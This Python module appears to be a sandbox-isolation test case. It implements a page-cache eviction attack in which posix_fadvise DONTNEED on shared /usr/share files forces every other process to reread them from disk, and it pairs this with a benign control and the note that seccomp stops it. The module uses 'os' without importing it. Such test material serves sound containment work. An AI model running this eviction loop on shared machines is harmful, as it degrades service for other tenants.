"""Throw out of memory what everybody uses.

Technique: posix_fadvise(POSIX_FADV_DONTNEED) drops the cached pages of a file, for which it is enough to have it open for
    reading. All executions share those of /usr, of the interpreter and of the environment: dropped in a loop, everybody's next
    start reads them from the disk again.
Success: files of the machine that were in memory no longer are: reading them takes as long as from a disk.
Stopped by: seccomp
"""
import time

FILES = 40


def seconds_to_read(file):
    begun = time.perf_counter()
    os.pread(file, 4096, 0)
    return time.perf_counter() - begun


def attack():
    times_in_memory, times_after, evicted = [], [], 0
    # Files that nobody has mapped; those that are mapped stay.
    for place, _, names in os.walk("/usr/share"):
        for name in names:
            path = os.path.join(place, name)
            if os.path.islink(path) or os.path.getsize(path) < 8192:
                continue
            file = os.open(path, os.O_RDONLY)
            os.pread(file, 1 << 16, 0)
            times_in_memory.append(min(seconds_to_read(file) for _ in range(5)))
            os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
            times_after.append(seconds_to_read(file))
            evicted += times_after[-1] > max(5 * times_in_memory[-1], 2e-5)
            os.close(file)
            if len(times_after) == FILES:
                break
        if len(times_after) == FILES:
            break
    if evicted > FILES // 2:
        before, after = (sorted(times)[len(times) // 2] * 1e6 for times in (times_in_memory, times_after))
        return f"{evicted} of {FILES} files had to be read from the disk again: {after:.0f} µs instead of {before:.1f}"


def twin():
    """Advice about one's own file, and that one will read."""
    with open("/work/file", "wb+") as file:
        file.write(bytes(1 << 16))
        file.flush()
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_SEQUENTIAL)
    with open(os.__file__, "rb") as file:
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_WILLNEED)
        assert file.read()
